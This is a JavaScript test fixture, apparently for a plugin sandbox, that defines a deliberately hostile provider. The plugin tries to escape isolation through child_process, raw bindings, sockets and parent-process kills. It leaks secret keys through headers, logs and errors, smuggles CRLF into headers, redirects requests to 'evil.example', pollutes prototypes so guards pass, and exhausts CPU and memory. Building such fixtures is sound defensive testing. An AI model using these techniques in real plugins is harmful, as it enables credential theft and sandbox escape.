import { EventEmitter } from 'node:events';
import { PassThrough, Transform } from 'node:stream';
import { credentialFields, providerSpec } from '@pai/policy';
import { Type } from 'typebox';

/** Names without `node:`. */
const bare = { fs: 'fs', http: 'http' };

const seen = new Set();
// Whatever emits anything in this process is looked at: Node's own process object and its sockets do.
const { emit } = EventEmitter.prototype;
EventEmitter.prototype.emit = function (...event) {
  seen.add(this);
  return Reflect.apply(emit, this, event);
};

/** So that a guard written in JavaScript says yes. */
function pollute() {
  Set.prototype.has = () => true;
  Array.prototype.includes = () => true;
  String.prototype.startsWith = () => true;
  RegExp.prototype.test = () => true;
  Object.prototype.isAdmin = true;
}

const say = (value) => ({ unresolved: String(value) });
const outcome = async (action) => {
  try {
    return say(`DONE ${await action()}`);
  } catch (error) {
    return say(`refused ${error?.code ?? error?.message ?? error}`);
  }
};
const real = () => [...seen].find((one) => 'execPath' in one && one !== process) ?? nothing();
/** Makes Node's own process object emit something. */
const provoke = () => {
  process.emitWarning('look at me');
  return new Promise((resolve) => setTimeout(resolve, 10));
};

/** What a hostile plugin tries, by the path that asks for it. */
const attacks = {
  '/fs-import': async () => (await import('node:fs')).readFileSync('/etc/hostname', 'utf8'),
  '/fs-bare': async () => (await import(bare.fs)).readFileSync('/etc/hostname', 'utf8'),
  '/child': async () => (await import('node:child_process')).execSync('id').toString(),
  '/worker': async () => (await import('node:worker_threads')).Worker.name,
  '/net': async () => (await import('node:net')).connect(80, '192.0.2.1').constructor.name,
  '/http': async () => (await import(bare.http)).request.name,
  '/dns': async () => (await import('node:dns')).lookup.name,
  '/module': async () => (await import('node:module')).createRequire(import.meta.url)('net').connect.name,
  '/commonjs': async () => (await import('./old.cjs')).default,
  '/commonjs-load': async () => (await import('./load.cjs')).default(),
  '/commonjs-hooks': async () => (await import('./hooks.cjs')).default(),
  '/commonjs-resolve': async () => (await import('./resolve.cjs')).default(),
  '/data-url': async () => (await import('data:text/javascript,export default 1')).default,
  '/vm': async () => (await import('node:vm')).runInThisContext('1'),
  '/async-hooks': async () => (await import('node:async_hooks')).executionAsyncResource(),
  '/inspector': async () => (await import('node:inspector')).open(0),
  '/builtin': () => process.getBuiltinModule('net').connect.name,
  '/real-builtin': () => real().getBuiltinModule('net').connect.name,
  '/binding': () => process.binding('tcp_wrap').TCP.name,
  '/real-binding': () => real().binding('tcp_wrap').TCP.name,
  '/real-dlopen': () => real().dlopen({}, '/lib/x.node'),
  '/kill': () => process.kill(process.ppid, 'SIGTERM'),
  '/real-kill': () => real().kill(real().ppid, 'SIGTERM'),
  '/real-debug': () => real()._debugProcess(real().ppid),
  '/real-handles': () => real()._getActiveHandles().length,
  '/real-stdin': () => real().stdin.constructor.name,
  '/real-execve': () => real().execve('/bin/true', []),
  '/fetch': async () => (await fetch('https://192.0.2.1/')).status,
  '/dispatcher': () => {
    void Response;
    const symbol = Object.getOwnPropertySymbols(globalThis).find(
      (one) => one.description?.startsWith('undici') && globalThis[one] !== undefined,
    );
    return globalThis[symbol].dispatch.name;
  },
  '/websocket': () => new WebSocket('wss://192.0.2.1/').url,
  '/sockets': () =>
    [...seen]
      .filter((one) => one.constructor.name === 'Socket')
      .length.toString()
      .replace('0', nothing()),
  '/env': () => (Object.keys(process.env).length > 0 ? 'env' : nothing()),
  '/real-env': () =>
    Object.keys(real().env ?? {}).filter((name) => name !== 'isAdmin').length > 0 ? 'env' : nothing(),
};

function nothing() {
  throw new Error('nothing there');
}

const harms = {
  '/loop': () => {
    for (;;);
  },
  '/heap': () => {
    const kept = [];
    for (;;) kept.push(new Array(1_000_000).fill(kept.length));
  },
  '/buffers': async () => {
    const kept = [];
    for (;;) {
      kept.push(Buffer.alloc(32 * 1024 * 1024, 1));
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  },
  '/never': () => new Promise(() => undefined),
  '/reject': async () => {
    Promise.reject(new Error('nobody listens'));
    return new Promise(() => undefined);
  },
  '/throw-later': () => {
    setTimeout(() => {
      throw new Error('later');
    });
    return new Promise(() => undefined);
  },
  '/huge': () => say('x'.repeat(50 * 1024 * 1024)),
  '/many': () => ({ actions: Array.from({ length: 100_000 }, (_, i) => ({ name: `a${i}` })) }),
  '/empty': () => ({ actions: [] }),
  '/odd': () => ({ actions: [{ name: 7 }] }),
  '/proto': () => ({ actions: [JSON.parse('{"name":"read","__proto__":{"polluted":true},"reach":"any"}')] }),
};

export const hostile = {
  apiVersion: 'v1',
  type: 'hostile',
  spec: providerSpec({
    type: 'hostile',
    auth: Type.Object(
      { type: Type.Literal('key', { description: 'A key.' }), ...credentialFields },
      { additionalProperties: false, description: 'Its credential.' },
    ),
  }),
  create: (spec, { secrets, fetch, log }) => {
    const key = secrets.read('token');
    const odd = spec.host === undefined ? secrets.read('odd') : key;
    pollute();
    return {
      hosts: [{ host: spec.host ?? 'api.hostile.example' }],
      placeholders: { env: {} },
      credentialSlots: { headers: ['authorization'] },
      answer: ({ path }) => {
        if (path === '/show') return { status: 200, headers: ['x-key', key.reveal()], body: key.reveal() };
        if (path !== '/show-odd' && path !== '/show-json') return undefined;
        const shown = odd.reveal();
        return { status: 200, headers: [], body: path === '/show-odd' ? shown : JSON.stringify({ shown }) };
      },
      resolve: async ({ path }) => {
        if (path.startsWith('/real')) await provoke();
        if (path === '/real') return outcome(() => typeof real().emit);
        if (Object.keys(attacks).some((one) => one === path)) return outcome(attacks[path]);
        if (Object.keys(harms).some((one) => one === path)) return harms[path]();
        if (path === '/other-secret') return outcome(() => secrets.read('../other/token').reveal());
        if (path === '/derive')
          for (let i = 0; i < 1_000; i += 1) await outcome(() => secrets.derive(`n${i}`, `value-${i}`));
        if (path === '/derive-long')
          for (let i = 0; i < 20; i += 1)
            await outcome(() => secrets.derive(`long${i}`, `${i}-`.padEnd(10_000, 'x')));
        if (path === '/own-fetch') return outcome(async () => (await fetch('https://evil.example/')).status);
        if (path === '/log') log(`the key is ${key.reveal()}\u001b[2J`);
        if (path === '/log') console.log(`and again ${key.reveal()}`);
        if (path === '/log-lines') console.log(secrets.read('pem', { multiline: true }).reveal());
        if (path === '/log-cut') console.log(`${'.'.repeat(980)}${key.reveal()}`);
        if (path === '/account') {
          const account = secrets.read('account', { multiline: true, isIdentifier: true });
          return { actions: [{ name: 'read', resource: account.reveal() }] };
        }
        if (path === '/odd-action') return { actions: [{ name: odd.reveal() }] };
        if (path === '/odd-reason') return { unresolved: odd.reveal() };
        if (path === '/tell') throw Object.assign(new Error(key.reveal()), { code: 'internal', status: 500 });
        return { actions: [{ name: 'read', resource: path }] };
      },
      scope: () => undefined,
      inject: (request) => {
        if (request.target === '/smuggle') request.headers.push('x-a', 'b\r\nx-c: d');
        else if (request.target === '/move') request.target = 'https://evil.example/';
        else request.headers.push('authorization', key.reveal());
      },
      filter: (head) => {
        const harm = harms[head.headers[head.headers.indexOf('x-at-end') + 1]];
        if (harm !== undefined) {
          const transform = (chunk, _, done) => done(null, chunk);
          return (content) => content.pipe(new Transform({ transform, flush: () => void harm() }));
        }
        head.headers.push('set-cookie', 'added=1');
        return () => new PassThrough();
      },
    };
  },
};
